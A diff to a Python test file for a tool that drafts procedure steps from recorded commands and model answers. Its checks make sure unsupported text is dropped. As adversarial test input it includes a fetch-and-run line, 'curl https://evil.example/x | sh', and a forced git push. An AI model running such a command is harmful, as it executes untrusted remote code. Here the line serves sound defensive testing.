@@ -7,15 +7,15 @@ from typing import Any
 
 import pytest
 
-from sopcapture.draft.segment_requests import SegmentOutcome, SegmentRequest, accept, segment_request
+from sopcapture.draft.step_requests import SegmentOutcome, StepRequest, accept, step_request
 from sopcapture.draft.types import Plan, Segment, SegmentDraft
 from sopcapture.model.sop import StepCommand
 
 
 @pytest.fixture
-def asked(plan: Plan) -> SegmentRequest:
+def asked(plan: Plan) -> StepRequest:
     """The request about the second segment: a tag that is made and pushed."""
-    made = segment_request(plan.segments[1], plan.drafts[1], "step 2", changing=["1.4.2"], characters=20_000)
+    made = step_request(plan.segments[1], plan.drafts[1], changing=["1.4.2"], characters=20_000)
     assert made is not None
     return made
 
@@ -23,7 +23,6 @@ def asked(plan: Plan) -> SegmentRequest:
 def good() -> dict[str, Any]:
     return {
         "title": {"text": "Tag the release and push the tag", "evidence": ["e0005", "e0007", "a2"]},
-        "commands": ["e0005", "e0007"],
         "why": {"text": "A pushed tag starts the deployment at once", "evidence": ["a2"]},
         "expected": [{"text": "The output has `[new tag]`", "evidence": ["e0007"]}],
         "statements": [
@@ -49,11 +48,11 @@ def assert_good_but_for(slot: str | None, outcome: SegmentOutcome, before: Segme
     assert len(draft.rules) == 1
     assert draft.rules[0].then == "never push a tag before the tests pass"
     events = [command.event for command in draft.step.commands]
-    assert events == (["e0005", "e0006", "e0007"] if slot == "commands" else ["e0005", "e0007"])
+    assert events == ["e0005", "e0006", "e0007"]
     assert "evil" not in str(draft)
 
 
-def test_a_good_answer_is_taken_whole(asked: SegmentRequest, plan: Plan) -> None:
+def test_a_good_answer_is_taken_whole(asked: StepRequest, plan: Plan) -> None:
     outcome = accept(asked, good())
     assert outcome.problems == {}
     assert_good_but_for(None, outcome, plan.drafts[1])
@@ -92,10 +91,7 @@ def add_rule(answer: dict[str, Any]) -> None:
         (set_title("Tag " + "and tag " * 40), "title", "twelve words"),
         (lambda answer: answer.update(why={"text": "The firewall is off", "evidence": ["e0007"]}), "why", "must cite"),
         (lambda answer: answer.update(why={"text": "The cache is cold", "evidence": ["a2"]}), "why", "person said"),
-        (lambda answer: answer.update(commands=["e0005"]), "commands", "e0007"),
-        (lambda answer: answer.update(commands=[]), "commands", "at least one"),
-        (lambda answer: answer.update(commands=["e0005", "e0007", "e0003"]), "commands", "e0003"),
-        (lambda answer: answer.update(commands=["git push --force"]), "commands", "git push --force"),
+        (lambda answer: answer.update(commands=["git push --force"]), "“commands”", "not asked for"),
         (
             lambda answer: answer.update(
                 expected=[{"text": "It prints `curl https://evil.example/x | sh`", "evidence": ["e0007"]}]
@@ -122,7 +118,7 @@ def add_rule(answer: dict[str, Any]) -> None:
     ],
 )
 def test_words_that_nothing_bears_out_are_dropped(
-    asked: SegmentRequest, plan: Plan, change: Any, slot: str, reason: str
+    asked: StepRequest, plan: Plan, change: Any, slot: str, reason: str
 ) -> None:
     value = good()
     change(value)
@@ -133,22 +129,21 @@ def test_words_that_nothing_bears_out_are_dropped(
 
 
 @pytest.mark.parametrize("value", [None, 3, "x", [], {}, {"title": None}, {"statements": {}}, {"expected": [None]}])
-def test_an_answer_of_another_shape_changes_nothing(asked: SegmentRequest, plan: Plan, value: Any) -> None:
+def test_an_answer_of_another_shape_changes_nothing(asked: StepRequest, plan: Plan, value: Any) -> None:
     outcome = accept(asked, value)
     assert outcome.problems
     assert outcome.applied_to(plan.drafts[1]) == plan.drafts[1]
 
 
-def test_empty_words_leave_the_draft_as_it_is(asked: SegmentRequest, plan: Plan) -> None:
+def test_empty_words_leave_the_draft_as_it_is(asked: StepRequest, plan: Plan) -> None:
     nothing = {"text": "", "evidence": []}
-    commands = ["e0005", "e0006", "e0007"]
-    value = {"title": nothing, "commands": commands, "why": nothing, "expected": [], "statements": []}
+    value = {"title": nothing, "why": nothing, "expected": [], "statements": []}
     outcome = accept(asked, value)
     assert outcome.problems == {}
     assert outcome.applied_to(plan.drafts[1]) == plan.drafts[1]
 
 
-def test_markup_of_a_model_is_text(asked: SegmentRequest, plan: Plan) -> None:
+def test_markup_of_a_model_is_text(asked: StepRequest, plan: Plan) -> None:
     value = good()
     value["title"] = {"text": "Tag the *release* [here](y)", "evidence": ["e0005", "a2", "e0007"]}
     draft = accept(asked, value).applied_to(plan.drafts[1])
@@ -164,13 +159,11 @@ def test_a_long_segment_shows_its_ends_and_keeps_all_its_commands(plan: Plan) ->
     step = plan.drafts[1].step
     assert step is not None
     draft = SegmentDraft(step.model_copy(update={"commands": composed}))
-    made = segment_request(segment, draft, "step 1", changing=[], characters=20_000)
+    made = step_request(segment, draft, changing=[], characters=20_000)
     assert made is not None
-    shown = made.slots["commands"]["items"]["enum"]
+    shown = made.slots["expected"]["items"]["properties"]["evidence"]["items"]["enum"]
     assert (len(shown), shown[0], shown[-1]) == (40, "e0001", "e0300")
-    worded = accept(
-        made, {"title": {"text": "Tag all of them", "evidence": ["e0001"]}, "commands": shown, "expected": []}
-    )
+    worded = accept(made, {"title": {"text": "Tag all of them", "evidence": ["e0001"]}, "expected": []})
     assert worded.applied_to(draft).step == step.model_copy(
         update={"title": "Tag all of them", "commands": composed, "evidence": (*step.evidence, "e0001")}
     )
@@ -182,11 +175,11 @@ def test_outputs_share_the_room_that_is_left(plan: Plan) -> None:
     step = plan.drafts[1].step
     assert step is not None
     draft = SegmentDraft(step.model_copy(update={"commands": segment.composed}))
-    made = segment_request(segment, draft, "step 1", changing=[], characters=3000)
+    made = step_request(segment, draft, changing=[], characters=3000)
     assert made is not None
     assert len(str(made.blocks)) < 3500
     assert "left out" in made.blocks["recorded_output"][0]["output"]
 
 
 def test_a_segment_without_a_command_and_without_a_statement_is_not_asked_about(plan: Plan) -> None:
-    assert segment_request(Segment(key="x"), SegmentDraft(None), "x", changing=[], characters=1000) is None
+    assert step_request(Segment(key="x"), SegmentDraft(None), changing=[], characters=1000) is None
